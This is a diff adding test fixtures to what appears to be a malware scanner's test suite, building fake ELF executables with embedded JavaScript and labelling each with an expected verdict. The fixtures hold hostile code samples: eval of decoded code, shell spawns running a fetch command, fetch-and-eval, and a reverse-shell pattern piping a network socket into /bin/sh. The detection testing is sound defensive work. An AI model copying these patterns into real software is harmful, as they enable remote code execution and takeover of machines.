@@ -622,6 +622,49 @@ code("many-parts.js", "x" + ".a" * 300000 + "\n", "clean")
 code("many-calls.py", "open(" * 200000 + "\n", "unscanned", "code.limit")
 code("many-files.py", "import os, requests\n" + "".join(f"open('f{i:04}', 'w').write('a')\n" for i in range(100)) + "open('/tmp/tool', 'wb').write(requests.get(u).content)\nos.system('/tmp/tool')\n", "suspicious", "code.runs-downloaded")
 code("many-brackets.js", "(" * 200000 + "\n", "unscanned", "code.limit")
+
+# --- executables: the program that one carries is looked into, machine code is not
+def elf(sections=(), notes=b"", behind=b""):
+    """An executable of 64 bits: a header, perhaps a segment of notes, sections, and what was put behind it all."""
+    names = b"\0.shstrtab\0" + b"".join(name.encode() + b"\0" for name, _ in sections)
+    parts = [(1, names)] + [(names.index(name.encode() + b"\0"), data) for name, data in sections]
+    body, at, rows = b"", 64 + 56, [bytes(64)]
+    for name, data in parts:
+        rows.append(struct.pack("<IIQQQQIIQQ", name, 3 if name == 1 else 1, 0, 0, at + len(body), len(data), 0, 0, 1, 0))
+        body += data
+    table = at + len(body) + len(notes)
+    header = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 64, table, 0, 64, 56, 1, 64, len(rows), 1)
+    segment = struct.pack("<IIQQQQQQ", 4 if notes else 1, 4, table - len(notes), 0, 0, len(notes), len(notes), 4)
+    return header + segment + body + notes + b"".join(rows) + behind
+
+
+def note(name, data):
+    name = name.encode() + b"\0"
+    return struct.pack("<III", len(name), len(data), 0) + name + bytes(-len(name) % 4) + data
+
+
+FILLER = "// a line of a program that has many of them\n" * 200
+RUNS = (FILLER + "eval(atob('YWxlcnQoMSk='));\n" + FILLER).encode()
+HONEST = (FILLER + "console.log(atob('YWxlcnQoMSk='));\n" + FILLER).encode()
+TRAILER = b"\n---- Bun! ----\n"
+put("executable/plain", elf(), "unscanned", "scan.machine-code")
+put("executable/behind", elf(behind=b"\1\0" + RUNS + b"\0" + TRAILER), "bad", "code.runs-decoded")
+put("executable/behind-good", elf(behind=b"\1\0" + HONEST + b"\0" + TRAILER), "unscanned", "scan.machine-code")
+put("executable/section", elf([(".bun", b"\x10\0\0\0" + RUNS + b"\0"), (".text", bytes(100))]), "bad", "code.runs-decoded")
+put("executable/note", elf(notes=note("NODE_SEA_BLOB", b"\x20\xda\x43\1" + struct.pack("<Q", len(RUNS)) + RUNS + bytes(4))), "bad", "code.runs-decoded")
+put("executable/other-section", elf([(".rodata", b"\0" + RUNS + b"\0")]), "unscanned", "scan.machine-code")
+put("executable/message", elf(behind=b"\0eval(atob('YWxlcnQoMSk='));\0"), "unscanned", "scan.machine-code")
+put("executable/no-text", elf(behind=b"\0" + bytes(range(1, 256)) * 40 + b"\0"), "unscanned", "scan.machine-code")
+put("executable/many", elf(behind=b"\0".join([HONEST] * 300)), "unscanned", "scan.limit")
+put("executable/cut", elf([(".bun", RUNS)])[:-70], "unscanned", "scan.machine-code")
+put("executable/with-zip", elf(behind=zip_of([("data.txt", b"a text\n")])), "suspicious", "scan.machine-code")
+code("import-names.mjs", "import { spawn } from 'node:child_process';\nspawn('/bin/sh', ['-c', '" + FETCH + "']);\n", "suspicious", "code.command-fetches")
+code("import-as.mjs", "import fs, { readFile as r } from 'fs';\nimport { spawn as s, exec } from 'node:child_process';\ns('/bin/sh', ['-c', '" + FETCH + "']);\n", "suspicious", "code.command-fetches")
+code("taken-apart.js", "const { createDecipheriv: d } = require('crypto');\nlet { data } = await (await fetch(u)).json();\neval(data);\n", "bad", "code.runs-fetched")
+# A bundle in which each of the parts of a shell for others is somewhere, and one where they stand together.
+APART = "import { spawn } from 'child_process';\nimport net from 'net';\nfunction a() { spawn('bash', ['-c', x]); }\n" + "b(1, 2);\n" * 80000
+code("apart-bundle-good.js", APART + "const s = net.connect(80, h);\n" + "b(1, 2);\n" * 2000 + "s.pipe(q.stdin);\n", "clean")
+code("together-bundle.js", APART + "const s = net.connect(80, h);\nconst p = spawn('/bin/sh', []);\ns.pipe(p.stdin);\n", "bad", "code.reverse-shell")
 code("good-many.js", "describe(() => {\n" + "  for (const x of y) { return x }\n" * 20000 + "})\n", "clean")
 code("plain/package.json", {"name": "a", "version": "1.0.0", "dependencies": {"b": "http://x.example/b.tgz"}}, "suspicious", "code.plain-dependency")
 put("code/test.com", b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", "bad", "code.virus-test")
